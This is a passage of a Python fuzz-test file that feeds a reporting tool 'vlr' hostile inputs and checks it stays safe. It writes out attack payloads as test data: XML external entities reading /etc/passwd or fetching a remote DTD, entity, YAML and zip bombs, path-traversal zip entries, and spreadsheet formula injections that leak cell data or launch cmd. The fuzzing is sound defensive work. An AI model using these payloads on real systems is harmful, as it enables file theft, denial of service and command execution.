"""A fuzzer for vlr's newer surfaces (issue 20): hostile drafts, Open SDG repositories,
pictures, templates and output paths, through the whole command line.

    python tests/fuzz_surfaces.py --count 300 --seed 7 [--out build/fuzz-surfaces] [--jobs 3]
    python tests/fuzz_surfaces.py --seed 7 --case 41          # one case again, kept if it fails
    python tests/fuzz_surfaces.py --classes draft,templates   # some classes only

Each case works in a folder of its own: a copy of the shipped example (``indicators/``),
and ``outside/`` with files holding a secret marker that no output may contain. One surface
is made hostile; the kinds of a class are taken in turn (from a point the seed chooses), the
details at random:

- **draft**: the example's draft (built once) damaged, then ``vlr build review -o
  out/new.docx --from draft.docx`` and ``vlr build review --update draft.docx``: a part
  (document, comments, rels, content types) broken or missing, no body, an entity bomb
  or an external entity in a part, nesting deeper than 256, a duplicate zip entry, the
  encrypted flag, a bad CRC, an unknown compression method, a part that inflates past
  1 GB, a ``../../evil.txt`` entry, a 10 MB custom property, a truncated file, the draft
  a FIFO or a link to ``/dev/zero``;
- **repository**: a small Open SDG repository through ``vlr import open-sdg`` (then
  validate; and coverage, progress, suggest, diff, init and build on what it wrote when
  the data hold formulas): a data, meta, translation or csv-meta file or a whole folder
  linked outside, a file linked to ``/dev/zero`` or a FIFO, a YAML alias bomb, a CSV
  field over 131,072 characters, a meta path that is a folder, a Year ``9999-12-31``,
  ``=HYPERLINK(…)``, ``+``, ``-``, ``@`` in breakdowns, units and names, garbage CSV;
- **pictures**: the Logo, a case study's picture, a goal icon (``--icons``) or the
  ``--reference-docx``: a PNG or JPEG whose header claims 50,000 × 50,000 pixels, a
  truncated file, a FIFO, a link to ``/dev/zero``, a file of gigabytes (sparse), a file
  that is no picture, a link to a picture outside; a reference that is a zip bomb, holds
  an entity bomb or an external entity, or is no .docx;
- **templates**: ``--templates`` and Narratives cells: templates that change the data
  they are given (``{{ goals.clear() }}``), huge or slow output (``'x'|center(999999999)``),
  NUL bytes, a 100 MB template, a template linked outside the folder or including a file
  outside it, recursion, sandbox escapes, a FIFO, ``/dev/zero``, a folder, syntax errors;
- **output**: every command that writes (``build -o``, ``build --from``, ``coverage
  --xlsx``, ``diff --xlsx``, ``suggest --xlsx``, ``init``, ``import open-sdg -o``) aimed at
  an input file, into an input folder, at a link to an input, at a dangling link, at an
  existing file or folder; a draft whose data workbook's name is a link to an input.

Each command runs as a separate ``vlr`` process limited to 2 GiB of address space, and
the contract is checked: exit 0, 1 or 2 only; no traceback, internal error or
MemoryError; done within 60 s; an exit 2 ends with its reason as one ``Error:`` line on
standard error; every line printed bounded; no input changed (every file hashed before
and after each command), nothing written into an input folder or through a link, a file
that was there replaced only with a backup beside it; a failed ``--update`` leaves the
draft byte-identical, a successful one keeps the previous bytes; a build that failed
leaves no draft; no secret marker in any file written (inside .docx and .xlsx too) nor in
what vlr printed; no formula in any workbook written (openpyxl's ``data_type`` and the raw
XML) nor a field of its CSV output that a spreadsheet would take for one; no zip entry
escaping its folder in a draft written. Each distinct failure (class, kind and a
signature of what went wrong) gets a reproducer folder in ``--out``: ``input/`` (the
case's folder before the commands, FIFOs and links included), ``reproduce.sh``, what each
command printed, ``case.json``; ``index.json`` lists them.

The test suite runs a few cases of each class with a fixed seed
(``tests/test_fuzz_surfaces.py``); ``make fuzz-surfaces N=…`` and ``make fuzz`` run long
campaigns.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import random
import re
import shlex
import shutil
import signal
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "indicators"
TIMEOUT = 60
MEMORY = 2 << 30
MAX_LINE = 2000
DATE = "2026-11-28"
BIG = 64 << 20  # larger files are hashed by size, head and tail, and copied sparsely
SCAN = 256 << 20  # the most of one output (or one zip member) searched for the secret
PASSWD = "root:x:0:0:"  # what /etc/passwd would leak
IMPORT = ["import", "open-sdg", "repo", "-o", "out/review", "--city", "Testbury", "--year", "2026"]

# vlr under the limits: 2 GiB of address space (inherited by its workers), 4 GiB files, no core
LAUNCH = (
    "import os, resource, sys\n"
    "resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[1]), int(sys.argv[1])))\n"
    "resource.setrlimit(resource.RLIMIT_FSIZE, (4 << 30, 4 << 30))\n"
    "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))\n"
    "os.execv(sys.executable, [sys.executable, '-m', 'vlr', *sys.argv[2:]])\n"
)


QUIET = {"--date", "--city", "--country", "--year"}  # options left out of a run's name


@dataclass
class Run:
    args: list[str]
    code: int | None = None
    out: str = ""
    err: str = ""
    seconds: float = 0.0
    timeout: int = TIMEOUT

    @property
    def name(self) -> str:
        words = self.args[:2] if self.args[:1] == ["import"] else self.args[:1]
        return " ".join(words + [a for a in self.args if a.startswith("--") and a not in QUIET])

    @property
    def command(self) -> str:
        return "vlr " + " ".join(shlex.quote(a) for a in self.args)


@dataclass
class Step:
    args: list[str]
    requires: int | None = None  # the step that must have exited 0 first
    update: str | None = None  # the draft it rewrites (--update)
    writes: list[str] = field(default_factory=list)  # what it must not leave behind if it fails


@dataclass
class Plan:
    steps: list[Step]
    inputs: list[str]  # files and folders only read
    checks: list[Callable] = field(default_factory=list)  # extra checks: f(case, work, plan)


@dataclass
class Case:
    number: int
    seed: int
    cls: str = ""
    kind: str = ""
    description: str = ""
    marker: str = ""
    markers: list[str] = field(default_factory=list)
    runs: list[Run] = field(default_factory=list)
    failures: list[tuple[str, str, str, int | None]] = field(default_factory=list)  # type, signature, detail, run
    folder: str = ""
    round: int = 0  # the how-manieth time the campaign comes to this case's kind

    def turn(self, options: list):
        """The main variant of a kind, in turn: a campaign reaches each one, the rest is random."""
        return options[self.round % len(options)]

    def fail(self, kind: str, signature: str, detail: str, run: Run | None = None) -> None:
        if (kind, signature) not in {(f[0], f[1]) for f in self.failures}:
            index = next((i for i, r in enumerate(self.runs) if r is run), None)
            self.failures.append((kind, signature, detail[:600], index))


# --- files -----------------------------------------------------------------------------


def write(path: Path, data: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink() or path.exists() and not path.is_dir():
        path.unlink()
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def replace_with(path: Path, what: str, target: str = "") -> None:
    """Make ``path`` a FIFO, a link, a folder or a file of zeros (sparse) instead of a file."""
    if path.is_symlink() or path.is_file():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    if what == "fifo":
        os.mkfifo(path)
    elif what == "link":
        path.symlink_to(target)
    elif what == "folder":
        path.mkdir()
        (path / "inside.txt").write_text("a folder where a file was expected\n")


def sparse(path: Path, head: bytes, size: int) -> None:
    write(path, head)
    with open(path, "r+b") as f:
        f.truncate(size)


def _hash(path: Path, size: int) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        if size <= BIG:
            for chunk in iter(lambda: f.read(1 << 20), b""):
                h.update(chunk)
        else:
            h.update(f.read(1 << 20))
            f.seek(size - (1 << 20))
            h.update(f.read())
            h.update(str(size).encode())
    return h.hexdigest()


def digest(root: Path) -> dict[str, str]:
    """Every entry under ``root``, never opening a FIFO nor following a link."""
    found: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            rel = str(path.relative_to(root))
            st = os.lstat(path)
            if stat.S_ISLNK(st.st_mode):
                found[rel] = "link:" + os.readlink(path)
            elif stat.S_ISDIR(st.st_mode):
                found[rel] = "dir"
            elif stat.S_ISREG(st.st_mode):
                found[rel] = _hash(path, st.st_size)
            else:
                found[rel] = "special:" + stat.filemode(st.st_mode)[0]
    return found


def copy_tree(src: Path, dst: Path) -> None:
    """A copy that keeps links as links and FIFOs as FIFOs, and large files of zeros sparse."""
    dst.mkdir(parents=True, exist_ok=True)
    for entry in os.scandir(src):
        target = dst / entry.name
        st = entry.stat(follow_symlinks=False)
        if stat.S_ISLNK(st.st_mode):
            target.symlink_to(os.readlink(entry.path))
        elif stat.S_ISDIR(st.st_mode):
            copy_tree(Path(entry.path), target)
        elif stat.S_ISFIFO(st.st_mode):
            os.mkfifo(target)
        elif stat.S_ISREG(st.st_mode):
            with open(entry.path, "rb") as fin, open(target, "wb") as fout:
                for chunk in iter(lambda fin=fin: fin.read(1 << 20), b""):
                    if chunk.count(0) == len(chunk):
                        fout.seek(len(chunk), os.SEEK_CUR)
                    else:
                        fout.write(chunk)
                fout.truncate()


# --- zip and XML damage ----------------------------------------------------------------


def read_zip(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def write_zip(path: Path, items: list[tuple[str, bytes]]) -> None:
    with warnings.catch_warnings():  # a duplicate name is the point of some cases
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in items:
                zf.writestr(name, data)


def edit_part(path: Path, name: str, change: Callable[[bytes], bytes | None]) -> None:
    items = []
    for part, data in read_zip(path):
        if part == name:
            data = change(data)
            if data is None:
                continue
        items.append((part, data))
    write_zip(path, items)


def patch_entry(path: Path, name: str, *, flag: int = 0, method: int | None = None, crc: bool = False) -> None:
    """Change an entry's flags, compression method or CRC in both its local and central headers."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        local = zf.getinfo(name).header_offset
    end = data.rfind(b"PK\x05\x06")
    at = struct.unpack_from("<I", data, end + 16)[0]
    central = None
    while data[at : at + 4] == b"PK\x01\x02":
        nlen, xlen, clen = struct.unpack_from("<HHH", data, at + 28)
        if bytes(data[at + 46 : at + 46 + nlen]).decode() == name:
            central = at
            break
        at += 46 + nlen + xlen + clen
    assert central is not None
    for where in (local + 6, central + 8):  # the flags; the method follows, the CRC 8 bytes on
        if flag:
            struct.pack_into("<H", data, where, struct.unpack_from("<H", data, where)[0] | flag)
        if method is not None:
            struct.pack_into("<H", data, where + 2, method)
        if crc:
            struct.pack_into("<I", data, where + 8, struct.unpack_from("<I", data, where + 8)[0] ^ 0x5A5A5A5A)
    path.write_bytes(bytes(data))


def with_doctype(data: bytes, doctype: str, reference: str) -> bytes:
    """The DOCTYPE after the XML declaration; the reference in the first text (w:t) or inside the root."""
    start = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0
    body = data[start:]
    ref = reference.encode()
    found = re.search(rb"<w:t(?: [^>]*)?>", body)
    if found is None:
        found = re.search(rb"<[A-Za-z][^>]*?(?<!/)>", body)
    if found is not None:
        body = body[: found.end()] + ref + body[found.end() :]
    return data[:start] + doctype.encode() + body


LAUGHS = (
    '<!DOCTYPE r [<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
)
QUADRATIC = '<!DOCTYPE r [<!ENTITY a "' + "a" * 100_000 + '">]>'

PARTS = {
    "document": "word/document.xml",
    "comments": "word/comments.xml",
    "rels": "word/_rels/document.xml.rels",
    "content-types": "[Content_Types].xml",
}
XML_PARTS = [*PARTS.values(), "_rels/.rels", "docProps/custom.xml", "docProps/core.xml", "word/styles.xml"]


def break_xml(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    how = rng.choice(["truncate", "flip", "garbage", "empty", "not-xml", "utf16", "unclosed"])
    at = rng.randrange(max(1, len(data)))
    if how == "truncate":
        return data[:at], how
    if how == "flip":
        return data[:at] + bytes([data[at] ^ (1 << rng.randrange(8))]) + data[at + 1 :], how
    if how == "garbage":
        return data[:at] + rng.choice([b"<x>", b"</w:p>", b"&bogus;", b"\xff\xfe", b"<", b"]]>"]) + data[at:], how
    if how == "empty":
        return b"", how
    if how == "not-xml":
        return b"\x89PNG\r\n\x1a\n" + os.urandom(64), how
    if how == "utf16":
        return data.decode("utf-8", "replace").encode("utf-16"), how
    return data[: data.rfind(b"</")], how


# --- pictures --------------------------------------------------------------------------


def png(width: int, height: int, *, colour: int = 2, rows: int | None = None, text: str = "") -> bytes:
    """A PNG file; with ``rows`` fewer than ``height`` its pixel data stop short of the header's claim."""

    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    channels = {0: 1, 2: 3, 6: 4}[colour]
    raw = (b"\x00" + bytes([0x30, 0x80, 0xC0, 0xFF][:channels]) * width)[: 1 + width * channels]
    raw = raw * (height if rows is None else rows)
    body = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    if text:
        body += chunk(b"tEXt", b"Comment\x00" + text.encode())
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    at = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


# --- what every case shares: the example's draft, icons, bombs ---------------------------


class Assets:
    """Made once a campaign, the first time a case needs them, in one folder."""

    def __init__(self, folder: Path):
        self.folder = folder
        self.cache = folder / "vlr-cache"
        self._lock = threading.RLock()  # an asset may be made from another
        self._made: dict[str, Path] = {}

    def get(self, name: str) -> Path:
        with self._lock:
            if name not in self._made:
                path = self.folder / name
                getattr(self, "_make_" + name.split(".")[0].replace("-", "_"))(path)
                self._made[name] = path
            return self._made[name]

    def _make_draft(self, path: Path) -> None:
        copy_tree(EXAMPLE, self.folder / "review")
        run = vlr(["build", "review", "-o", path.name, "--date", DATE], self.folder, self.cache)
        if run.code != 0:
            raise RuntimeError(f"the example's draft could not be built: {run.err[-500:]}")
        (self.folder / "draft-data.xlsx").unlink()

    def _make_edited(self, path: Path) -> None:
        import docx

        document = docx.Document(str(self.get("draft.docx")))
        document.add_paragraph("A paragraph written by a person, so that the update merges.")
        document.save(str(path))

    def _make_icons(self, path: Path) -> None:
        for goal in range(1, 18):
            write(path / f"goal-{goal}.png", png(64, 64))

    def _make_review2(self, path: Path) -> None:
        import openpyxl

        copy_tree(EXAMPLE, path)
        wb = openpyxl.load_workbook(path / "climate.xlsx")
        ws = wb["Data"]
        ws.cell(ws.max_row, 3).value = 123.456  # one revised value, so that diff has something to write
        wb.save(path / "climate.xlsx")

    def _make_bomb(self, path: Path) -> None:
        """The draft with one part that inflates to 1.1 GiB, written a MiB at a time."""
        part = {"bomb-document": "word/document.xml", "bomb-comments": "word/comments.xml"}.get(
            path.stem, "word/media/image1.png"
        )
        chunk = b"a" * (1 << 20)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zout:
                for name, data in read_zip(self.get("draft.docx")):
                    if name != part:
                        zout.writestr(name, data)
                        continue
                    info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
                    info.compress_type = zipfile.ZIP_DEFLATED
                    with zout.open(info, "w", force_zip64=True) as f:
                        f.write(data[: data.find(b"<w:t>") + 5] if b"<w:t>" in data else data[:64])
                        for _ in range(1100):
                            f.write(chunk)
                        f.write(b"</w:t></w:r></w:p></w:body></w:document>")

    _make_bomb_document = _make_bomb_comments = _make_bomb_media = _make_bomb


# --- running vlr -----------------------------------------------------------------------


def vlr(args: list[str], cwd: Path, cache: Path, timeout: int = TIMEOUT) -> Run:
    run = Run(list(args), timeout=timeout)
    env = {**os.environ, "VLR_DEBUG": "", "VLR_CACHE_DIR": str(cache), "COLUMNS": "100"}
    started = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-c", LAUNCH, str(MEMORY), *args],
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,  # its workers too are ended on a timeout
    )
    try:
        out, err = proc.communicate(timeout=timeout)
        run.code = proc.returncode
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
    run.seconds = time.monotonic() - started
    run.out, run.err = out.decode("utf-8", "replace"), err.decode("utf-8", "replace")
    return run


# --- the cases: draft ------------------------------------------------------------------


def setup_draft(work: Path, case: Case, rng: random.Random, assets: Assets) -> Plan:
    base = assets.get(rng.choice(["draft.docx", "edited.docx"]))
    draft = work / "draft.docx"
    write(draft, base.read_bytes())
    kind, name = case.kind, ""
    if kind.startswith(("broken:", "missing:")):
        name = PARTS[kind.split(":")[1]]
        if kind.startswith("missing:"):
            edit_part(draft, name, lambda data: None)
            case.description = f"{name} removed"
        else:
            how = []
            edit_part(draft, name, lambda data: how.append(break_xml(data, rng)) or how[0][0])
            case.description = f"{name}: {how[0][1]}"
    elif kind == "no-body":
        how = rng.choice([b"", b"<w:body/>", b"<w:body></w:body>"])
        edit_part(draft, PARTS["document"], lambda d: re.sub(rb"<w:body>.*</w:body>", how, d, flags=re.S))
        case.description = f"document.xml's body replaced by {how.decode() or 'nothing'}"
    elif kind in ("entity-bomb", "external-entity"):
        name = rng.choice(XML_PARTS)
        doctype, ref = _entity(kind, work, case, rng)
        edit_part(draft, name, lambda data: with_doctype(data, doctype, ref))
        case.description = f"{name}: {doctype[:90]}… {ref}"
    elif kind == "deep-nesting":
        depth = rng.choice([129, 200, 1000, 20000, 200000])
        inner = "<w:sdt><w:sdtContent>" * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>"
        inner += "</w:sdtContent></w:sdt>" * depth
        edit_part(draft, PARTS["document"], lambda d: d.replace(b"</w:body>", inner.encode() + b"</w:body>", 1))
        case.description = f"{2 * depth} elements nested in the body"
    elif kind == "duplicate-entry":
        name = rng.choice([*PARTS.values(), "docProps/custom.xml"])
        items = read_zip(draft)
        other = rng.choice([b"<?xml version='1.0'?><x/>", dict(items)[name][: len(dict(items)[name]) // 2]])
        items.insert(rng.choice([0, len(items)]), (name, other))
        write_zip(draft, items)
        case.description = f"{name} twice in the zip"
    elif kind in ("encrypted-flag", "bad-crc", "unknown-compression"):
        name = rng.choice([*PARTS.values(), "docProps/custom.xml", "word/styles.xml"])
        method = rng.choice([99, 6, 97, 19])
        patch_entry(
            draft,
            name,
            flag=1 if kind == "encrypted-flag" else 0,
            method=method if kind == "unknown-compression" else None,
            crc=kind == "bad-crc",
        )
        case.description = f"{name}: {kind}" + (f" (method {method})" if kind == "unknown-compression" else "")
    elif kind == "zip-bomb":
        which = case.turn(["document", "comments", "media"])
        write(draft, assets.get(f"bomb-{which}.docx").read_bytes())
        case.description = f"the {which} part inflates to 1.1 GiB"
    elif kind == "traversal-entry":
        name = case.turn(["../../evil.txt", "word/../../evil.txt", "/tmp/vlr-fuzz-evil.txt", "..\\..\\evil.txt"])
        write_zip(draft, [*read_zip(draft), (name, b"written outside the draft's folder\n")])
        case.description = f"an entry named {name}"
        plan_check = _no_evil(work)
        return _draft_plan(plan_check)
    elif kind == "huge-custom-property":
        size = rng.choice([10, 20]) << 20
        edit_part(
            draft,
            "docProps/custom.xml",
            lambda d: re.sub(
                rb"<vt:lpwstr>[^<]*</vt:lpwstr>", b"<vt:lpwstr>" + b"x" * size + b"</vt:lpwstr>", d, count=1
            ),
        )
        case.description = f"a custom property of {size >> 20} MiB"
        return _draft_plan(_large_property_message)
    elif kind == "truncated":
        data = draft.read_bytes()
        cut = rng.choice([rng.randrange(len(data)), len(data) // 2, len(data) - 22, 30])
        write(draft, data[:cut])
        case.description = f"the draft cut at {cut} of {len(data)} bytes"
    elif kind == "fifo":
        replace_with(draft, "fifo")
        case.description = "the draft is a FIFO"
    elif kind == "dev-zero":
        replace_with(draft, "link", "/dev/zero")
        case.description = "the draft is a link to /dev/zero"
    return _draft_plan()


def _draft_plan(*checks: Callable) -> Plan:
    steps = [
        Step(
            ["build", "review", "-o", "out/new.docx", "--from", "draft.docx", "--date", DATE], writes=["out/new.docx"]
        ),
        Step(["build", "review", "--update", "draft.docx", "--date", DATE], update="draft.docx"),
    ]
    return Plan(steps, inputs=["review", "outside"], checks=list(checks))


def _entity(kind: str, work: Path, case: Case, rng: random.Random) -> tuple[str, str]:
    if kind == "entity-bomb":
        return rng.choice([(LAUGHS, "&l9;"), (QUADRATIC, "&a;" * 10_000)])
    target = rng.choice(["file:///etc/passwd", f"file://{work}/outside/secret.txt", "outside/secret.txt"])
    case.markers.append(PASSWD)
    return rng.choice(
        [
            (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>', "&x;"),
            (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{target}"> %p;]>', ""),
            ('<!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">', ""),
        ]
    )


def _no_evil(work: Path) -> Callable:
    places = [work / "evil.txt", work.parent / "evil.txt", Path("/tmp/vlr-fuzz-evil.txt")]
    there = {p for p in places if p.exists()}

    def check(case: Case, work: Path, plan: Plan) -> None:
        for p in places:
            if p.exists() and p not in there:
                case.fail("zip-entry-escape", p.name, f"{p} was written by a zip entry of the draft")

    return check


def _large_property_message(case: Case, work: Path, plan: Plan) -> None:
    for run in case.runs:
        if run.code == 2 and "not a Word document" in run.err:
            last = run.err.strip().splitlines()[-1]
            case.fail("message", f"{run.name} not a Word document", f"{run.name}: a large property is {last!r}", run)


# --- the cases: repository -------------------------------------------------------------

REPOSITORY = {
    "config_data.yml": "inputs:\n  - class: InputCsvData\n",
    "data/indicator_1-2-1.csv": "Year,Group,Value\n2010,,14\n2010,children,19\n2015,,16\n2015,children,17\n"
    "2018,,15.5\n2018,children,16\n",
    "meta/1-2-1.md": "---\nindicator_name: Population below the poverty line\ncomputation_units: Percentage (%)\n"
    "reporting_status: complete\n---\nSome page text.\n",
    "data/indicator_3-4-1.csv": "Year,Units,Value\n2016,Deaths,120\n2016,Rate per 100000,25.1\n2020,Deaths,100\n"
    "2020,Rate per 100000,21.0\n",
    "meta/3-4-1.yml": "indicator_name: Premature deaths from non-communicable diseases\ncomputation_units: Deaths\n"
    "national_target_line: '80'\n",
    "data/indicator_11-1-1-a.csv": "Year,Value\n2017/18,7.62\n2018/19,8.1\n2019/20,8.59\n",
    "meta/11-1-1-a.md": "---\nindicator_name: localised_indicators.11-1-1-a-title\n---\n",
    "translations/en/localised_indicators.yml": "11-1-1-a-title: House price to earnings ratio\n",
    "metadata-mapping.csv": "Indicator name,indicator_name\nUnit of measurement,computation_units\n",
    "csv-meta/14-4-1.csv": "Indicator name,Freshwater fish counts\nUnit of measurement,Number of fish\n",
    "data/indicator_14-4-1.csv": "Year,Site,Value\n2021-03-15,Site 1,3\n2021-09-15,Site 1,9\n2022-03-15,Site 2,6\n",
}
SECRETS = {  # a file outside the repository, shaped so that it would be imported
    "data/indicator_1-2-1.csv": "Year,Group,Value\n2020,{m},1\n2021,{m},2\n",
    "meta/1-2-1.md": "---\nindicator_name: {m}\ncomputation_units: {m}\n---\n{m}\n",
    "meta/3-4-1.yml": "indicator_name: {m}\ncomputation_units: {m}\n",
    "translations/en/localised_indicators.yml": "11-1-1-a-title: {m}\n",
    "csv-meta/14-4-1.csv": "Indicator name,{m}\nUnit of measurement,{m}\n",
}
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    '=WEBSERVICE("http://example.invalid/")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"!A0")',
]
YEARS = ["9999-12-31", "9999", "10000", "0001-01-01", "2020-02-30", "1e9", "9" * 30, "-2020", "2020-13-01"]


def yaml_bomb(key: str, levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "\n".join([*lines, f"{key}: *a{levels - 1}"]) + "\n"


def make_repository(root: Path) -> None:
    for name, text in REPOSITORY.items():
        write(root / name, text)


def _csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def setup_repository(work: Path, case: Case, rng: random.Random, assets: Assets) -> Plan:
    repo, outside, m = work / "repo", work / "outside", case.marker
    make_repository(repo)
    kind, steps = case.kind, [Step(IMPORT, writes=["out/review"]), Step(["validate", "out/review"], requires=0)]
    if kind == "link-out":
        name = case.turn(list(SECRETS))
        write(outside / ("secret-" + Path(name).name), SECRETS[name].format(m=m))
        depth = "../" * name.count("/") + "../"
        replace_with(repo / name, "link", f"{depth}outside/secret-{Path(name).name}")
        case.description = f"{name} is a link to a file outside the repository"
    elif kind == "link-folder":
        folder = case.turn(["data", "meta", "translations"])
        copy_tree(repo / folder, outside / folder)
        write(repo / "data/indicator_2-1-1.csv", "Year,Value\n2019,1\n2020,2\n")
        secret = {
            "data": ("data/indicator_2-1-1.csv", "Year,Group,Value\n2019,{m},1\n2020,{m},2\n"),
            "meta": ("meta/2-1-1.md", "---\nindicator_name: {m}\n---\n"),
            "translations": ("translations/en/localised_indicators.yml", "11-1-1-a-title: {m}\n"),
        }[folder]
        write(outside / secret[0], secret[1].format(m=m))
        shutil.rmtree(repo / folder)
        replace_with(repo / folder, "link", f"../outside/{folder}")
        case.description = f"the repository's {folder}/ is a link to a folder outside"
    elif kind in ("dev-zero", "fifo", "meta-folder"):
        name = case.turn([*SECRETS, "metadata-mapping.csv", "config_data.yml"])
        replace_with(repo / name, {"dev-zero": "link", "fifo": "fifo", "meta-folder": "folder"}[kind], "/dev/zero")
        case.description = f"{name} is " + {"dev-zero": "a link to /dev/zero", "fifo": "a FIFO"}.get(kind, "a folder")
    elif kind == "yaml-bomb":
        name = case.turn(["meta/3-4-1.yml", "meta/1-2-1.md", "translations/en/localised_indicators.yml"])
        text = yaml_bomb("11-1-1-a-title" if "translations" in name else "indicator_name")
        write(repo / name, f"---\n{text}---\n" if name.endswith(".md") else text)
        case.description = f"{name}: a YAML alias bomb (9 levels of 9)"
    elif kind == "huge-field":
        size = case.turn([131_073, 200_000, 1_000_000, 5_000_000])
        where = rng.choice(["breakdown", "value", "heading", "csv-meta"])
        big = "x" * size
        if where == "csv-meta":
            write(repo / "csv-meta/14-4-1.csv", _csv_text([["Indicator name", big], ["Unit of measurement", "n"]]))
        else:
            rows = [["Year", big if where == "heading" else "Group", "Value"], ["2019", "", "1"], ["2020", "", "2"]]
            rows[1][{"breakdown": 1, "value": 2}.get(where, 1)] = big if where != "heading" else ""
            write(repo / "data/indicator_1-2-1.csv", _csv_text(rows))
        case.description = f"a {where} field of {size:,} characters"
    elif kind == "far-year":
        year = case.turn(YEARS)
        write(repo / "data/indicator_11-1-1-a.csv", f"Year,Value\n2017/18,7.62\n2018/19,8.1\n{year},8.59\n")
        case.description = f"a Year {year}"
    elif kind == "formula":
        case.description = _plant_formula(repo, rng)
        steps += _formula_steps()
    elif kind == "garbage-csv":
        how = rng.choice(["random", "nul", "latin-1", "utf-16", "header-only", "ragged", "wide"])
        data = {
            "random": os.urandom(4096),
            "nul": b"Year,Group,Value\n2019,a\x00b,1\n\x00\x00\x00\n",
            "latin-1": "Year,Group,Value\n2019,\xe4iti,1\n".encode("latin-1"),
            "utf-16": "Year,Group,Value\n2019,a,1\n".encode("utf-16"),
            "header-only": b"Year,Group,Value\n",
            "ragged": b'Year,Group,Value\n2019\n2020,a,1,2,3,4\n"unclosed,1\n',
            "wide": (
                ",".join(["Year", *[f"C{i}" for i in range(20000)], "Value"]) + "\n2019," + "," * 20000 + "1\n"
            ).encode(),
        }[how]
        write(repo / "data/indicator_1-2-1.csv", data)
        case.description = f"data/indicator_1-2-1.csv: {how}"
    return Plan(steps, inputs=["repo", "outside", "review"])


def _plant_formula(repo: Path, rng: random.Random) -> str:
    payload = rng.choice(FORMULAS)
    where = rng.choice(["breakdown", "unit", "name", "units-meta", "translation", "csv-meta", "series-heading"])
    if where == "breakdown":
        rows = [["Year", "Group", "Value"], ["2015", "", "16"], ["2015", payload, "17"], ["2018", "", "15"]]
        write(repo / "data/indicator_1-2-1.csv", _csv_text(rows + [["2018", payload, "16"]]))
    elif where == "unit":
        rows = [["Year", "Units", "Value"], ["2016", payload, "120"], ["2020", payload, "100"]]
        write(repo / "data/indicator_3-4-1.csv", _csv_text(rows))
    elif where == "name":
        write(repo / "meta/3-4-1.yml", f"indicator_name: {json.dumps(payload)}\ncomputation_units: Deaths\n")
    elif where == "units-meta":
        write(repo / "meta/1-2-1.md", f"---\nindicator_name: Poverty\ncomputation_units: {json.dumps(payload)}\n---\n")
    elif where == "translation":
        write(repo / "translations/en/localised_indicators.yml", f"11-1-1-a-title: {json.dumps(payload)}\n")
    elif where == "csv-meta":
        write(repo / "csv-meta/14-4-1.csv", _csv_text([["Indicator name", payload], ["Unit of measurement", payload]]))
    else:
        rows = [["Year", payload, "Value"], ["2015", "", "16"], ["2015", "a", "17"], ["2018", "", "15"]]
        write(repo / "data/indicator_1-2-1.csv", _csv_text(rows))
    return f"{payload!r} as a {where}"


def _formula_steps() -> list[Step]:
    return [
        Step(["coverage", "out/review", "--xlsx", "out/coverage.xlsx"], requires=0),
        Step(["coverage", "out/review", "--format", "csv"], requires=0),
        Step(["progress", "out/review", "--format", "csv", "--breakdowns"], requires=0),
        Step(["suggest", "out/review", "--xlsx", "out/suggest.xlsx"], requires=0),
        Step(["diff", "review", "out/review", "--xlsx", "out/diff.xlsx"], requires=0),
